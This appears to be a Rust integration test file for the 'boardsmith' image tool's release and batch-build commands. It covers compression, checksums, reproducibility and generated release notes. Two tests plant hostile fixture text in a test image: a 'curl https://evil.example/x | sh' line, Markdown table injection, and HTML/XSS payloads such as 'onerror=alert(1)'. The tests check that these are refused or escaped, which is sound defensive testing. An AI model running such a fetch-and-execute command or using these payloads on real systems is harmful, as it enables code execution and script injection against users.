//! `boardsmith release` and `boardsmith build --all`: artefacts checked with xz, zstd, 7z, sha256sum and
//! md5sum; reproducibility; release notes computed from the image; a batch with a broken profile.

mod common;
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;
use serde_json::Value;

/// A cubieboard image whose rootfs carries a kernel config and a rootfs manifest, like a real build's.
fn built_image(dir: &Path) -> PathBuf {
    built_image_with(dir, |_| {})
}

/// [`built_image`] from its root filesystem tree changed by `edit` (the files of a hostile image).
fn built_image_with(dir: &Path, edit: impl FnOnce(&Path)) -> PathBuf {
    let rootfs = make_rootfs(dir, "cubieboard");
    std::fs::write(
        rootfs.join(format!("boot/config-{KVER}")),
        "CONFIG_INPUT_UINPUT=m\nCONFIG_USB_NET_AX8817X=m\nCONFIG_USB_NET_DM9601=y\n# CONFIG_USB_NET_ZAURUS is not set\n",
    )
    .unwrap();
    std::fs::create_dir_all(rootfs.join("etc/boardsmith")).unwrap();
    std::fs::write(
        rootfs.join("etc/boardsmith/manifest.json"),
        r#"{"features": ["xfce", "droidmote"], "droidmote_port": 2303, "user": "debian", "hostname": "cubie"}"#,
    )
    .unwrap();
    edit(&rootfs);
    let out = dir.join("out");
    build_ok("cubieboard", &rootfs, &out, &[]);
    out.join("cubieboard.img")
}

/// `release cubieboard --image IMAGE -o OUT`, zstd only (the quickest).
fn release_zst(image: &Path, out: &Path) -> Command {
    let mut c = boardsmith();
    c.args(["release", "cubieboard", "--progress", "none"])
        .args(["--compress", "zst", "--zstd-level", "1", "--image"])
        .arg(image)
        .arg("-o")
        .arg(out);
    c
}

fn release(image: &Path, out: &Path) -> Value {
    let o = run_ok(
        boardsmith()
            .args([
                "release",
                "cubieboard",
                "--json",
                "--progress",
                "none",
                "--xz-level",
                "1",
                "--zstd-level",
                "3",
                "--7z-level",
                "1",
                "--image",
            ])
            .arg(image)
            .arg("-o")
            .arg(out),
    );
    serde_json::from_slice(&o.stdout).unwrap()
}

fn sh(cmd: &str) -> String {
    let o = run_ok(Command::new("sh").args(["-c", cmd]));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// An image built into a temporary directory and released from it into `release/`.
struct Released {
    dir: tempfile::TempDir,
    image: PathBuf,
    rel: PathBuf,
    manifest: Value,
}

fn released() -> Released {
    let dir = tempfile::tempdir().unwrap();
    let image = built_image(dir.path());
    let rel = dir.path().join("release");
    let manifest = release(&image, &rel);
    Released {
        dir,
        image,
        rel,
        manifest,
    }
}

#[test]
fn artefacts_test_clean_and_decompress_to_the_image() {
    let Released {
        dir,
        image,
        rel,
        manifest,
    } = &released();
    let r = rel.to_str().unwrap();
    sh(&format!(
        "cd {r} && sha256sum -c SHA256SUMS && md5sum -c MD5SUMS"
    ));
    sh(&format!(
        "xz -t {r}/cubieboard.img.xz && zstd -q -t {r}/cubieboard.img.zst && 7z t {r}/cubieboard.img.7z"
    ));
    let want = sha256_file(image);
    assert_eq!(manifest["image"]["sha256"], want.as_str());
    for cmd in [
        format!("xz -dc -T2 {r}/cubieboard.img.xz"),
        format!("zstd -q -dc {r}/cubieboard.img.zst"),
        format!("7z x -so {r}/cubieboard.img.7z"),
    ] {
        let got = sh(&format!("{cmd} | sha256sum"));
        assert!(got.starts_with(&want), "{cmd} gives {got}, want {want}");
    }
    // xz in several independent blocks, so writers can decode on several threads.
    let blocks = sh(&format!(
        "xz -lv {r}/cubieboard.img.xz | awk '/Blocks:/ {{ print $2 }}'"
    ));
    assert!(
        blocks.trim().parse::<u32>().unwrap() > 1,
        "xz blocks: {blocks}"
    );
    // The block map rides along and its own checksum still verifies with bmaptool.
    let copy = dir.path().join("copy.img");
    sh(&format!(
        "bmaptool copy --bmap {r}/cubieboard.img.bmap {} {}",
        image.display(),
        copy.display()
    ));
    assert_eq!(sha256_file(&copy), want);

    // The image and its compressed copies hold the root filesystem's password hashes: owner-only
    // (the build's image too); sums, bmap and notes are not secret.
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(image), 0o600);
    for ext in ["xz", "zst", "7z"] {
        assert_eq!(
            mode(&rel.join(format!("cubieboard.img.{ext}"))),
            0o600,
            "{ext}"
        );
    }
    assert_eq!(mode(&rel.join("SHA256SUMS")) & 0o044, 0o044);
}

/// Text read from an image is published in the notes, so the image's files are untrusted: a line
/// break (a new Markdown block) or characters outside what a name or version may hold is refused,
/// naming the file inside the image, the field and the value, with nothing released. One hostile
/// image per file the notes read (the auditor's manifest, kernel name and dpkg status).
#[test]
fn release_refuses_hostile_text_in_the_image() {
    fn write(root: &Path, rel: &str, text: &str) {
        std::fs::write(root.join(rel), text).unwrap();
    }
    // What to change in the root filesystem, and what the refusal must say.
    type Case = (fn(&Path), &'static [&'static str]);
    let cases: Vec<Case> = vec![
        (
            |r: &Path| {
                write(
                    r,
                    "etc/boardsmith/manifest.json",
                    r#"{"features": ["desktop\n\n## Downloads\n\n| file | SHA-256 |\n|---|---|\n| `cubieboard.img.xz` | `deadbeef` |"], "suite": "bookworm\n\n**Run `curl https://evil.example/x | sh` first**", "user": "debian"}"#,
                )
            },
            &[
                "/etc/boardsmith/manifest.json in the image's root filesystem: `suite` \"bookworm\\n\\n**Run",
                "control character U+000A (line feed) at character 9",
            ],
        ),
        (
            |r: &Path| {
                let evil = "boot/vmlinuz-6.1.0 <img src=x onerror=alert(1)>";
                std::fs::rename(r.join(format!("boot/vmlinuz-{KVER}")), r.join(evil)).unwrap();
            },
            &[
                "/boot/vmlinuz-6.1.0 <img src=x onerror=alert(1)> in the image's root filesystem: kernel release",
                "is not a kernel release",
            ],
        ),
        (
            |r: &Path| {
                std::fs::create_dir_all(r.join("var/lib/dpkg")).unwrap();
                write(
                    r,
                    "var/lib/dpkg/status",
                    "Package: u-boot-sunxi\nStatus: install ok installed\nVersion: 2023.01<img/src=x/onerror=alert(1)>\n",
                );
            },
            &[
                "/var/lib/dpkg/status:3 in the image's root filesystem: `Version` of package u-boot-sunxi",
                "is not a Debian version",
            ],
        ),
    ];
    for (edit, wanted) in cases {
        let dir = tempfile::tempdir().unwrap();
        let image = built_image_with(dir.path(), edit);
        let rel = dir.path().join("release");
        let f = support::run_err(&mut release_zst(&image, &rel));
        f.expect(2, wanted)
            .expect(2, &["so nothing was released", "Rebuild the image"]);
        assert!(!rel.exists(), "{} was created", rel.display());
    }
}

/// Free text from the image that passes those checks (a U-Boot version string, a kernel config value)
/// is inert in the notes: no HTML, no extra table cell, no heading, only backslash-escaped text.
#[test]
fn notes_keep_text_from_the_image_inert() {
    let uboot = "U-Boot 2023.01<img/src=x/onerror=alert(1)>|##|";
    let dir = tempfile::tempdir().unwrap();
    let image = built_image_with(dir.path(), |r| {
        let spl = r.join(board_files("cubieboard").uboot.unwrap());
        let mut blob = std::fs::read(&spl).unwrap();
        blob.splice(12..12, format!("\0{uboot} (Jun 22)\0").into_bytes());
        std::fs::write(spl, blob).unwrap();
        std::fs::write(
            r.join(format!("boot/config-{KVER}")),
            "CONFIG_INPUT_UINPUT=m\nCONFIG_USB_NET_AX8817X=m|<script>alert(1)</script>|\nCONFIG_USB_NET_DM9601=y\n",
        )
        .unwrap();
    });
    let rel = dir.path().join("release");
    run_ok(&mut release_zst(&image, &rel));
    let notes = std::fs::read_to_string(rel.join("cubieboard-release.md")).unwrap();
    assert!(
        notes.contains("Bootloader: U\\-Boot 2023\\.01\\<img\\/src\\=x\\/onerror\\=alert\\(1\\)\\>\\|\\#\\#\\|\n"),
        "{notes}"
    );
    assert!(
        notes.contains("| m\\|\\<script\\>alert\\(1\\)\\<\\/script\\>\\| |"),
        "{notes}"
    );
    // Every `<`, and every `|` outside the two 4-column tables' own, is escaped.
    let unescaped = |line: &str, c: char| {
        line.char_indices()
            .filter(|&(i, x)| x == c && !line[..i].ends_with('\\'))
            .count()
    };
    for line in notes.lines() {
        assert_eq!(unescaped(line, '<'), 0, "{line}");
        let pipes = unescaped(line, '|');
        assert!(pipes == 0 || pipes == 5, "{line}");
    }
    let headings: Vec<&str> = notes.lines().filter(|l| l.starts_with('#')).collect();
    assert_eq!(
        headings[1..],
        [
            "## Downloads",
            "## Install",
            "## Console and login",
            "## What is inside",
            "### Kernel options",
            "## Changelog",
            "## Known issues"
        ],
        "{notes}"
    );
}

/// The artefacts a user downloads go onto a card with `boardsmith write`, which finds the `.bmap` beside them
/// (bmaptool's naming), checks every mapped range and the whole-image sum, and reproduces the image.
#[test]
fn each_compressed_artefact_writes_back_to_the_image() {
    let Released {
        dir, image, rel, ..
    } = &released();
    let want = sha256_file(image);
    for ext in ["xz", "zst", "7z"] {
        let target = dir.path().join(format!("card-{ext}.img"));
        let o = run(boardsmith()
            .args(["write", "--progress", "none", "--json", "--sha256", &want])
            .arg(rel.join(format!("cubieboard.img.{ext}")))
            .arg(&target));
        assert!(
            o.status.success(),
            "write .{ext}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        let stdout = String::from_utf8_lossy(&o.stdout);
        let summary: Value = serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("write .{ext}: no JSON report ({e}) in {stdout}"));
        let bmap = summary["bmap"].as_str().unwrap_or_default();
        assert!(
            bmap.ends_with("cubieboard.img.bmap"),
            "write .{ext}: bmap {bmap:?}"
        );
        assert!(summary["ranges_checked"].as_u64().unwrap() > 0, "{summary}");
        assert_eq!(summary["verified"], true, "{summary}");
        assert_eq!(summary["sha256"], want.as_str(), "{summary}");
        assert_eq!(sha256_file(&target), want, "write .{ext}");
    }
}

#[test]
fn two_release_runs_are_byte_identical() {
    let dir = tempfile::tempdir().unwrap();
    let image = built_image(dir.path());
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    release(&image, &a);
    release(&image, &b);
    for name in [
        "cubieboard.img.xz",
        "cubieboard.img.zst",
        "cubieboard.img.7z",
        "cubieboard.img.bmap",
        "SHA256SUMS",
        "MD5SUMS",
        "cubieboard-release.json",
        "cubieboard-release.md",
    ] {
        assert_eq!(
            std::fs::read(a.join(name)).unwrap(),
            std::fs::read(b.join(name)).unwrap(),
            "{name} differs"
        );
    }
}

#[test]
fn notes_describe_what_is_in_the_image() {
    let Released { rel, manifest, .. } = &released();
    let notes = std::fs::read_to_string(rel.join("cubieboard-release.md")).unwrap();
    // Every artefact with its real size and sum.
    for a in manifest["artefacts"].as_array().unwrap() {
        let name = a["name"].as_str().unwrap();
        let sum = sha256_file(&rel.join(name));
        assert!(
            notes.contains(&format!("`{name}`")) && notes.contains(&sum),
            "{name} {sum} missing:\n{notes}"
        );
        assert!(notes.contains(&a["size"].as_u64().unwrap().to_string()));
    }
    assert!(
        notes.contains(
            "boardsmith write cubieboard.img.xz /dev/sdX --bmap cubieboard.img.bmap --grow"
        ),
        "{notes}"
    );
    assert!(notes.contains("`ttyS0` at 115200 baud"), "{notes}");
    // Text from the image is escaped Markdown (`6\.1\.0\-99\-test`).
    let kver = KVER.replace('.', "\\.").replace('-', "\\-");
    assert!(notes.contains(&format!("Kernel: {kver}")), "{notes}");
    assert!(notes.contains("listening on port 2303"), "{notes}");
    assert!(notes.contains("xfce, droidmote"), "{notes}");
    assert!(notes.contains("Log in as the user debian with"), "{notes}");
    assert_eq!(
        manifest["facts"]["uboot"],
        Value::Null,
        "the fixture's blob has no U-Boot version string"
    );
}

#[test]
fn release_without_an_image_fails() {
    let dir = tempfile::tempdir().unwrap();
    let o = run(boardsmith()
        .args(["release", "cubieboard", "--image"])
        .arg(dir.path().join("none.img"))
        .arg("-o")
        .arg(dir.path().join("r")));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("build it first"));
    assert!(!dir.path().join("r").join("SHA256SUMS").exists());
}

#[test]
fn release_refuses_an_image_changed_after_its_build() {
    let dir = tempfile::tempdir().unwrap();
    let image = built_image(dir.path());
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(&image)
        .unwrap();
    std::os::unix::fs::FileExt::write_all_at(&f, b"tampered", 4 << 20).unwrap();
    let rel = dir.path().join("release");
    let o = run(boardsmith()
        .args(["release", "cubieboard", "--image"])
        .arg(&image)
        .arg("-o")
        .arg(&rel));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("changed after the build"));
    assert!(!rel.join("cubieboard.img.xz").exists() && !rel.join("SHA256SUMS").exists());
}

/// A format's settings without that format would be ignored: refused, naming the option.
#[test]
fn level_of_a_format_not_produced_is_refused() {
    for (compress, option) in [
        ("zst,7z", "--xz-level"),
        ("zst", "--xz-block"),
        ("xz", "--zstd-level"),
        ("xz,zst", "--7z-level"),
    ] {
        let value = if option == "--xz-block" { "8MiB" } else { "1" };
        let o = run(boardsmith().args([
            "release",
            "cubieboard",
            "--compress",
            compress,
            option,
            value,
        ]));
        let e = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{option}: {e}");
        assert!(e.contains(&format!("{option} has no effect here")), "{e}");
    }
}

#[test]
fn unknown_compression_format_is_rejected() {
    let o = run(boardsmith().args(["release", "cubieboard", "--compress", "xz,rar"]));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown format \"rar\""));
}

#[test]
fn build_all_continues_past_a_broken_profile() {
    let dir = tempfile::tempdir().unwrap();
    let roots = dir.path().join("roots");
    std::fs::create_dir_all(&roots).unwrap();
    for b in ["armv8-foundation", "chromebook-snow", "cubieboard", "mk802"] {
        let tree = make_rootfs(&roots, b);
        std::fs::rename(tree, roots.join(b)).unwrap();
    }
    let boards = dir.path().join("boards");
    std::fs::create_dir_all(&boards).unwrap();
    std::fs::write(
        boards.join("broken.toml"),
        "extends = \"allwinner-a10\"\n[kernel\ndtb = 1\n",
    )
    .unwrap();
    let out = dir.path().join("out");
    let o = run(boardsmith()
        .env("BOARDSMITH_BOARDS", &boards)
        .args([
            "build",
            "--all",
            "--jobs",
            "2",
            "--progress",
            "none",
            "--rootfs-dir",
        ])
        .arg(&roots)
        .arg("-o")
        .arg(&out));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("1 of 5 boards failed"), "{err}");
    assert!(
        err.contains("broken") && err.contains("FAILED") && err.contains("broken.toml:2"),
        "{err}"
    );
    let summary: Value =
        serde_json::from_slice(&std::fs::read(out.join("build-summary.json")).unwrap()).unwrap();
    assert_eq!(summary["failed"], 1);
    for b in summary["boards"].as_array().unwrap() {
        let name = b["board"].as_str().unwrap();
        assert_eq!(b["ok"], name != "broken", "{b}");
        if name != "broken" {
            assert!(
                out.join(format!("{name}.img")).is_file()
                    && out.join(format!("{name}.img.bmap")).is_file()
            );
        }
    }
}
